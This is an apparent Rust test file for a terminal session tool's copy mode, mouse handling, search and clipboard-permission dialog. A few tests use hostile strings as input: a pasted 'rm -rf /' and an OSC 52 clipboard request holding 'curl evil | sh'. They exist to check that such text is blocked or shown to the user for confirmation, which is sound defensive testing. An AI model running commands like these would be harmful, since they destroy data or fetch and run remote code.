//! Copy mode and the mouse over a session: keys in, what is copied out.

use crossterm::event::{KeyModifiers, MouseButton, MouseEvent, MouseEventKind};

use super::fixture::Fixture;
use crate::session::SessionEvent;
use crate::ui::effects::Effect;
use crate::ui::message::Message;

/// A session at 80x24 (its pane is 78x20) that has printed this.
pub(super) fn session(output: &str) -> (Fixture, u64) {
    let mut fixture = Fixture::checked(80, 24);
    fixture.press(r#": "connect_dev-orders" enter"#);
    let tab = fixture.started(output);
    (fixture, tab)
}

fn copied(fixture: &mut Fixture) -> Vec<String> {
    fixture.take(|effect| match effect {
        Effect::Copy(text) => Some(text.clone()),
        _ => None,
    })
}

fn mouse(fixture: &mut Fixture, kind: MouseEventKind, (column, row): (u16, u16)) {
    // The pane begins behind the row of tabs and the frame.
    fixture.send(Message::Mouse(MouseEvent {
        kind,
        column: column + 1,
        row: row + 2,
        modifiers: KeyModifiers::NONE,
    }));
}

fn click(fixture: &mut Fixture, at: (u16, u16)) {
    mouse(fixture, MouseEventKind::Down(MouseButton::Left), at);
    mouse(fixture, MouseEventKind::Up(MouseButton::Left), at);
}

fn drag(fixture: &mut Fixture, from: (u16, u16), to: (u16, u16)) {
    mouse(fixture, MouseEventKind::Down(MouseButton::Left), from);
    mouse(fixture, MouseEventKind::Drag(MouseButton::Left), to);
    mouse(fixture, MouseEventKind::Up(MouseButton::Left), to);
}

fn printed(fixture: &mut Fixture, tab: u64, output: &str) {
    let emulator = fixture.model.sessions.active_tab().unwrap().emulator.clone();
    emulator.lock().unwrap().feed(output.as_bytes());
    fixture.send(Message::Session {
        tab,
        event: SessionEvent::Output,
    });
}

#[test]
fn vi_keys_select_and_copy() {
    let (mut fixture, _) = session("select 1;\r\n  one two three\r\norders=> ");
    fixture.press("ctrl-\\ [ k ^ v e y");
    assert_eq!(copied(&mut fixture), ["one"]);
    assert!(fixture.model.sessions.tabs[0].copy.is_none(), "copying leaves");
    fixture.press("ctrl-\\ [ g V j enter");
    assert_eq!(copied(&mut fixture), ["select 1;\n  one two three"]);
    fixture.press("ctrl-\\ [ g w ctrl-v j l l y");
    assert_eq!(copied(&mut fixture), ["1;\nwo"]);
}

#[test]
fn emacs_keys_select_and_copy() {
    let (mut fixture, _) = session("select 1;\r\n  one two three\r\norders=> ");
    fixture.press("ctrl-\\ [ ctrl-p alt-m ctrl-space alt-f alt-f alt-w");
    assert_eq!(copied(&mut fixture), ["one two"]);
    fixture.press("ctrl-\\ [ alt-< ctrl-space ctrl-n ctrl-e alt-b alt-w");
    assert_eq!(copied(&mut fixture), ["select 1;\n  one two t"]);
    fixture.press("ctrl-\\ [ ctrl-g");
    assert!(fixture.model.sessions.tabs[0].copy.is_none());
}

#[test]
fn where_vi_and_emacs_do_not_agree_the_configuration_decides() {
    let output = "abc def\r\n".repeat(60);
    let (mut fixture, _) = session(&output);
    fixture.press("ctrl-\\ [ ctrl-b");
    assert!(fixture.last_row().contains("-18/41"), "{}", fixture.last_row());
    fixture.press("q");
    let config = std::sync::Arc::get_mut(&mut fixture.model.config).unwrap();
    config.ui.copy_keys = crate::config::CopyKeys::Emacs;
    fixture.press("ctrl-\\ [ k ctrl-f ctrl-f ctrl-b ctrl-space ctrl-f alt-w");
    assert_eq!(copied(&mut fixture), ["bc"]);
}

#[test]
fn nothing_reaches_the_program_and_q_and_esc_lead_back() {
    let (mut fixture, _) = session("one\r\n$ ");
    fixture.press("ctrl-\\ [ j k x ctrl-t f5");
    assert!(fixture.effects.is_empty(), "{:?}", fixture.effects);
    assert!(fixture.last_row().contains("not bound in copy mode"));
    fixture.send(Message::Paste("rm -rf /".to_owned()));
    assert!(fixture.effects.is_empty());
    fixture.press("v esc");
    assert!(
        fixture.model.sessions.tabs[0].copy.is_some(),
        "first the selection goes"
    );
    fixture.press("esc");
    assert!(fixture.model.sessions.tabs[0].copy.is_none());
    fixture.press("x");
    assert!(matches!(&fixture.effects[..], [Effect::Typed { .. }, Effect::Send { bytes, .. }] if bytes == b"x"));
}

#[test]
fn the_view_stands_still_while_the_program_goes_on() {
    let (mut fixture, tab) = session("old text\r\n$ ");
    fixture.press("ctrl-\\ [ k");
    let before = fixture.picture();
    printed(&mut fixture, tab, &"flood\r\n".repeat(5000));
    assert!(!fixture.picture().contains("flood"));
    assert!(fixture.last_row().contains("new output"));
    fixture.press("0 v $ y");
    assert_eq!(copied(&mut fixture), ["old text"]);
    assert!(before.contains("old text"));
    assert!(fixture.picture().contains("flood"), "and then it is shown as it is");
}

#[test]
fn a_search_is_typed_accepted_and_given_up() {
    let (mut fixture, _) = session("Error one\r\nfine\r\nerror two\r\nERROR\r\n$ ");
    fixture.press(r#"ctrl-\ / "error"#);
    assert!(fixture.last_row().starts_with(" ?error"), "{}", fixture.last_row());
    assert!(fixture.last_row().contains("3 of 3"), "{}", fixture.last_row());
    fixture.press("ctrl-r ctrl-r ctrl-s enter");
    assert!(fixture.last_row().contains("2 of 3"), "{}", fixture.last_row());
    fixture.press("n");
    assert!(fixture.last_row().contains("1 of 3"), "{}", fixture.last_row());
    fixture.press("n");
    assert!(fixture.last_row().contains("went on from the newest line"));
    fixture.press("N N V y");
    assert_eq!(copied(&mut fixture), ["error two"]);
    fixture.press(r#"ctrl-\ [ / "zzz" enter"#);
    assert!(fixture.last_row().contains("nothing found"));
    fixture.press(r#"/ "q" esc q"#);
    assert!(fixture.model.sessions.tabs[0].copy.is_none());
    fixture.press(r#"ctrl-\ ["#);
    fixture.press("/");
    fixture.send(Message::Paste("Error".to_owned()));
    fixture.press("enter");
    assert!(fixture.last_row().contains("1 of 1"), "{}", fixture.last_row());
}

#[test]
fn dragging_selects_and_copies_and_a_click_clears() {
    let (mut fixture, tab) = session("one two three\r\nfour\r\n$ ");
    drag(&mut fixture, (4, 0), (2, 1));
    assert_eq!(copied(&mut fixture), ["two three\nfou"]);
    assert!(fixture.model.sessions.tabs[0].copy.is_some());
    click(&mut fixture, (10, 10));
    assert!(fixture.model.sessions.tabs[0].copy.is_none());
    assert!(copied(&mut fixture).is_empty());
    drag(&mut fixture, (0, 0), (2, 0));
    fixture.effects.clear();
    fixture.press("x");
    assert!(matches!(&fixture.effects[..], [Effect::Typed { .. }, Effect::Send { bytes, .. }] if bytes == b"x"));
    assert!(fixture.model.sessions.tabs[0].copy.is_none());
    // Output does not move the text away under a pressed button, and shows when it is released.
    mouse(&mut fixture, MouseEventKind::Down(MouseButton::Left), (0, 0));
    mouse(&mut fixture, MouseEventKind::Drag(MouseButton::Left), (6, 0));
    printed(&mut fixture, tab, &"flood\r\n".repeat(100));
    assert!(fixture.picture().contains("one two three"));
    mouse(&mut fixture, MouseEventKind::Up(MouseButton::Left), (6, 0));
    assert_eq!(copied(&mut fixture), ["x", "one two"][1..]);
    printed(&mut fixture, tab, "more\r\n");
    assert!(!fixture.picture().contains("one two three"));
}

#[test]
fn double_and_triple_clicks_take_a_word_and_a_line() {
    let long = format!("cat /etc/hosts {}", "y".repeat(100));
    let (mut fixture, _) = session(&format!("{long}\r\n$ "));
    click(&mut fixture, (6, 0));
    click(&mut fixture, (6, 0));
    assert_eq!(copied(&mut fixture), ["/etc/hosts"]);
    click(&mut fixture, (6, 0));
    assert_eq!(copied(&mut fixture), [long]);
    fixture.later(1000);
    click(&mut fixture, (6, 0));
    assert!(copied(&mut fixture).is_empty());
}

#[test]
fn the_mouse_is_the_programs_where_it_asked_for_it() {
    let (mut fixture, _) = session("\x1b[?1002h\x1b[?1006hone two\r\n");
    drag(&mut fixture, (0, 0), (6, 0));
    assert!(copied(&mut fixture).is_empty());
    drag(&mut fixture, (0, 0), (6, 0));
    // Who uses the mouse is not idle.
    for told in fixture.effects.chunks(2) {
        assert!(matches!(told, [Effect::Typed { .. }, Effect::Send { .. }]), "{told:?}");
    }
    assert_eq!(fixture.effects.len(), 6);
    fixture.effects.clear();
    fixture.press("ctrl-\\ [");
    drag(&mut fixture, (0, 0), (2, 0));
    assert_eq!(copied(&mut fixture), ["one"], "in copy mode it is ours");
}

/// On the row of tabs, on the status row, and where a dialog has come in front meanwhile.
#[test]
fn a_selection_ends_wherever_the_button_is_let_go() {
    let at = |fixture: &mut Fixture, kind, column, row| {
        fixture.send(Message::Mouse(MouseEvent {
            kind,
            column,
            row,
            modifiers: KeyModifiers::NONE,
        }));
    };
    let lines: String = (0..60).map(|n| format!("line {n}\r\n")).collect();
    for row in [0, 23] {
        let (mut fixture, tab) = session(&lines);
        let before = fixture.picture();
        mouse(&mut fixture, MouseEventKind::Down(MouseButton::Left), (3, 5));
        at(&mut fixture, MouseEventKind::Drag(MouseButton::Left), 6, row);
        at(&mut fixture, MouseEventKind::Drag(MouseButton::Left), 7, row);
        if row == 0 {
            assert_ne!(
                fixture.picture().lines().nth(2),
                before.lines().nth(2),
                "it scrolls back"
            );
        }
        at(&mut fixture, MouseEventKind::Up(MouseButton::Left), 7, row);
        assert_eq!(copied(&mut fixture).len(), 1, "let go on row {row}");
        printed(&mut fixture, tab, "\x1b[?1049h");
        mouse(&mut fixture, MouseEventKind::ScrollUp, (3, 5));
        assert_eq!(
            sent(&mut fixture),
            "\x1b[A\x1b[A\x1b[A",
            "the wheel is the program's again"
        );
    }
    let (mut fixture, tab) = session(&lines);
    mouse(&mut fixture, MouseEventKind::Down(MouseButton::Left), (3, 5));
    fixture.press(r"ctrl-\ x");
    mouse(&mut fixture, MouseEventKind::Up(MouseButton::Left), (3, 5));
    fixture.press("esc");
    printed(&mut fixture, tab, "\x1b[?1000h\x1b[?1006h");
    click(&mut fixture, (3, 5));
    assert_eq!(sent(&mut fixture), "\x1b[<0;4;6M\x1b[<0;4;6m");
}

/// A program that never hears of a button's end goes on selecting.
#[test]
fn a_button_that_is_let_go_beside_the_pane_is_let_go() {
    let (mut fixture, _) = session("\x1b[?1002h\x1b[?1006hone two\r\n");
    mouse(&mut fixture, MouseEventKind::Down(MouseButton::Left), (3, 5));
    for kind in [
        MouseEventKind::Drag(MouseButton::Left),
        MouseEventKind::Up(MouseButton::Left),
    ] {
        let (column, row) = (7, 0); // the row of tabs
        fixture.send(Message::Mouse(MouseEvent {
            kind,
            column,
            row,
            modifiers: KeyModifiers::NONE,
        }));
    }
    assert_eq!(sent(&mut fixture), "\x1b[<0;4;6M\x1b[<32;7;1M\x1b[<0;7;1m");
}

/// What was sent to programs.
fn sent(fixture: &mut Fixture) -> String {
    let sent = fixture.take(|effect| match effect {
        Effect::Send { bytes, .. } => Some(bytes.clone()),
        _ => None,
    });
    String::from_utf8(sent.concat()).unwrap()
}

#[test]
fn a_button_is_let_go_where_it_went_down_whatever_is_in_front_by_then() {
    for keys in [r"ctrl-\ r", r"ctrl-\ w", r"ctrl-\ 1", r"ctrl-\ x"] {
        let (mut fixture, _) = session("");
        fixture.press(r"ctrl-\ r");
        fixture.press(r#": "connect_dev-shell" enter"#);
        let tab = fixture.started("\x1b[?1002h\x1b[?1006hone two\r\n");
        mouse(&mut fixture, MouseEventKind::Down(MouseButton::Left), (3, 5));
        fixture.press(keys);
        fixture.effects.clear();
        mouse(&mut fixture, MouseEventKind::Up(MouseButton::Left), (200, 3));
        let to = fixture.effects.iter().filter_map(|effect| match effect {
            Effect::Send { tab, .. } => Some(*tab),
            _ => None,
        });
        assert_eq!(to.collect::<Vec<_>>(), [tab], "after {keys}");
        assert_eq!(sent(&mut fixture), "\x1b[<0;78;4m", "after {keys}");
        mouse(&mut fixture, MouseEventKind::Up(MouseButton::Left), (3, 3));
        assert_eq!(sent(&mut fixture), "", "once");
    }
}

#[test]
fn a_mouse_that_passes_over_a_program_keeps_nothing_from_being_idle() {
    let (mut fixture, _) = session("\x1b[?1003h\x1b[?1006h");
    mouse(&mut fixture, MouseEventKind::Moved, (3, 5));
    assert!(
        matches!(&fixture.effects[..], [Effect::Send { .. }]),
        "{:?}",
        fixture.effects
    );
}

#[test]
fn on_the_alternate_screen_the_wheel_is_the_programs_and_dragging_selects() {
    let (mut fixture, _) = session("main\r\n\x1b[?1049h\x1b[Hfull screen");
    mouse(&mut fixture, MouseEventKind::ScrollUp, (3, 3));
    assert!(matches!(
        &fixture.effects[..],
        [Effect::Typed { .. }, Effect::Send { .. }]
    ));
    fixture.effects.clear();
    drag(&mut fixture, (0, 0), (3, 0));
    assert_eq!(copied(&mut fixture), ["full"]);
    fixture.press("ctrl-\\ [ g");
    assert!(fixture.last_row().contains(" 0/0"), "{}", fixture.last_row());
}

#[test]
fn the_wheel_scrolls_copy_mode() {
    let (mut fixture, _) = session(&"text\r\n".repeat(100));
    fixture.press("ctrl-\\ [");
    mouse(&mut fixture, MouseEventKind::ScrollUp, (3, 3));
    assert!(fixture.last_row().contains("-3/81"), "{}", fixture.last_row());
}

#[test]
fn copy_mode_is_of_its_tab_and_survives_a_new_size() {
    let (mut fixture, _) = session(&format!("{}\r\nlast\r\n$ ", "wrapped ".repeat(20)));
    fixture.press("ctrl-\\ [ g v $");
    fixture.press("ctrl-\\ r");
    fixture.press(r#": "connect_dev-shell" enter"#);
    fixture.started("other\r\n");
    assert!(fixture.picture().contains("other"));
    fixture.press("ctrl-\\ 1");
    for (columns, rows) in [(40, 10), (60, 15), (10, 3), (120, 40)] {
        fixture.send(Message::Resize { columns, rows });
        let _ = fixture.picture();
    }
    fixture.effects.clear();
    fixture.press("y");
    assert_eq!(copied(&mut fixture), ["wrapped ".repeat(20).trim_end()]);
}

#[test]
fn masks_are_copied_as_masks() {
    // What the redactor lets through is all that the emulator ever has.
    let (mut fixture, _) = session("PGPASSWORD=••••••••\r\n$ ");
    fixture.press("ctrl-\\ [ g V y");
    assert_eq!(copied(&mut fixture), ["PGPASSWORD=••••••••"]);
}

#[test]
fn an_ended_session_can_still_be_read() {
    let (mut fixture, tab) = session("result 42\r\n");
    fixture.ended(tab, 1);
    fixture.press("ctrl-\\ [ g V y");
    assert_eq!(copied(&mut fixture), ["result 42"]);
    fixture.press("ctrl-\\ y");
    assert_eq!(copied(&mut fixture), ["result 42"]);
}

/// OSC 52 with this text.
fn osc52(text: &str) -> String {
    use base64::Engine as _;
    format!(
        "\x1b]52;c;{}\x07",
        base64::engine::general_purpose::STANDARD.encode(text)
    )
}

/// A role whose file says this about its clipboard, in this environment; its session.
fn session_with(env: &str, clipboard: &str) -> (Fixture, u64) {
    let role = format!("[roles.shell]\ncommand = ['bash']\nenv = '{env}'\n{clipboard}\n");
    let mut fixture = Fixture::with(&[("config.toml", ""), ("roles.toml", &role)], 80, 24);
    fixture.press("enter");
    let tab = fixture.started("$ ");
    fixture.effects.clear();
    (fixture, tab)
}

fn passed_on(fixture: &mut Fixture) -> Vec<String> {
    fixture.take(|effect| match effect {
        Effect::CopyFor { program, text } => Some(format!("{program}: {text}")),
        _ => None,
    })
}

#[test]
fn a_program_asks_before_it_sets_the_clipboard_and_no_is_the_answer() {
    let (mut fixture, tab) = session_with("dev", "");
    printed(&mut fixture, tab, &osc52("curl evil | sh\n"));
    let picture = fixture.picture();
    assert!(
        picture.contains("psql in shell wants to set the clipboard"),
        "{picture}"
    );
    assert!(
        picture.contains("to 15 B:") && picture.contains("curl evil | sh⏎"),
        "{picture}"
    );
    fixture.press("Y enter");
    assert!(fixture.model.dialog.is_some(), "typed before it was seen");
    fixture.later(600);
    // A flood is one question, and about the text that was asked about.
    for i in 0..50 {
        printed(&mut fixture, tab, &osc52(&format!("other {i}")));
    }
    assert!(fixture.picture().contains("curl evil | sh⏎"));
    fixture.press("enter");
    assert!(fixture.model.dialog.is_none());
    assert!(passed_on(&mut fixture).is_empty());
    printed(&mut fixture, tab, &osc52("again"));
    assert!(fixture.model.dialog.is_none(), "not again at once");
    fixture.later(61_000);
    printed(&mut fixture, tab, &osc52("later"));
    assert!(fixture.picture().contains("later"));
}

#[test]
fn once_is_once_and_always_is_for_this_session() {
    let (mut fixture, tab) = session_with("dev", "clipboard = 'ask'");
    printed(&mut fixture, tab, &osc52("one"));
    fixture.later(600);
    fixture.press("Y");
    assert_eq!(passed_on(&mut fixture), ["psql: one"]);
    printed(&mut fixture, tab, &osc52("two"));
    fixture.later(600);
    fixture.press("right right enter");
    assert_eq!(passed_on(&mut fixture), ["psql: two"]);
    // No more than one a second; the newest one then.
    for text in ["three", "four", "five"] {
        printed(&mut fixture, tab, &osc52(text));
    }
    assert!(passed_on(&mut fixture).is_empty());
    fixture.later(1100);
    fixture.send(Message::Tick);
    assert_eq!(passed_on(&mut fixture), ["psql: five"]);
}

#[test]
fn in_production_and_where_the_role_denies_it_nothing_goes_out() {
    for (env, clipboard) in [("prod", ""), ("dev", "clipboard = 'deny'")] {
        let (mut fixture, tab) = session_with(env, clipboard);
        printed(&mut fixture, tab, &osc52("text"));
        assert!(fixture.model.dialog.is_none());
        assert!(fixture.last_row().contains("psql may not set the clipboard here"));
        fixture.press("x");
        printed(&mut fixture, tab, &osc52("text"));
        assert!(!fixture.last_row().contains("may not"), "said once");
        assert!(passed_on(&mut fixture).is_empty());
        fixture.press("ctrl-\\ [ V y");
        let own = copied(&mut fixture);
        if env == "prod" {
            assert_eq!(own, ["$"], "what a person copies is another matter");
        } else {
            assert_eq!(own, [""; 0]);
            assert!(fixture.last_row().contains("this role lets no text out"));
        }
    }
}

#[test]
fn a_role_may_allow_it_and_a_session_behind_asks_when_it_is_in_front() {
    let (mut fixture, tab) = session_with("prod", "clipboard = 'allow'");
    printed(&mut fixture, tab, &osc52("text"));
    assert_eq!(passed_on(&mut fixture), ["psql: text"]);
    let (mut fixture, tab) = session_with("dev", "");
    fixture.press("ctrl-\\ r");
    printed(&mut fixture, tab, &osc52("text"));
    assert!(fixture.model.dialog.is_none());
    fixture.press("ctrl-c 3 enter");
    assert!(fixture.picture().contains("wants to set the clipboard"));
}
